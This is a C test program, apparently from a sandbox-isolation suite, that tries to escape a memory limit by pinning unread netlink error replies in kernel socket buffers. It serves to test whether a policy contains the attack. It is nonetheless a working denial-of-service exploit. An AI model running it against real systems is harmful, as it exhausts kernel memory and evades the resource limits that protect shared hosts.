// attack: take the kernel's memory in answers of netlink that nobody reads
// group: F
// source: netlink(7); netlink_ack of the kernel, whose copies of a request count for no control group
// layer: seccomp, where the policy's network is none or egress
// outside: as any user
// needs: seccomp
// arguments: 128
// policy: limits.memory=64MiB
#include "../attack.h"
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <sys/resource.h>
#include <sys/socket.h>

enum { REQUEST = 16 * 1024, NO_SUCH_TYPE = 4000 };

/* Each request is answered with an error that holds a copy of it, until the queue is full. */
static long fill(int netlink, long bound) {
  static union {
    struct nlmsghdr header;
    char bytes[REQUEST];
  } request = {.header = {.nlmsg_len = REQUEST,
                   .nlmsg_type = NO_SUCH_TYPE,
                   .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK}};
  uint32_t held[SK_MEMINFO_VARS] = {0}, before;
  do {
    before = held[SK_MEMINFO_RMEM_ALLOC];
    socklen_t size = sizeof held;
    if (send(netlink, &request, sizeof request, MSG_DONTWAIT) < 0
        || getsockopt(netlink, SOL_SOCKET, SO_MEMINFO, held, &size) < 0) {
      break;
    }
  } while (held[SK_MEMINFO_RMEM_ALLOC] > before && (long) held[SK_MEMINFO_RMEM_ALLOC] < bound);
  return held[SK_MEMINFO_RMEM_ALLOC];
}

int main(int argc, char **argv) {
  long bound = number(argc, argv, 1, "MiB") << 20, total = 0;
  struct rlimit limit;
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
  while (total < bound) {
    int netlink = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    if (netlink < 0) {
      denied_because("socket: %s after %ld MiB", strerrorname_np(errno), total >> 20);
    }
    int most = 1 << 30;
    setsockopt(netlink, SOL_SOCKET, SO_RCVBUF, &most, sizeof most);
    long held = fill(netlink, bound - total);
    if (held == 0) {
      broken("fill");
    }
    total += held;
  }
  succeeded("%ld MiB wait in sockets", total >> 20);
}
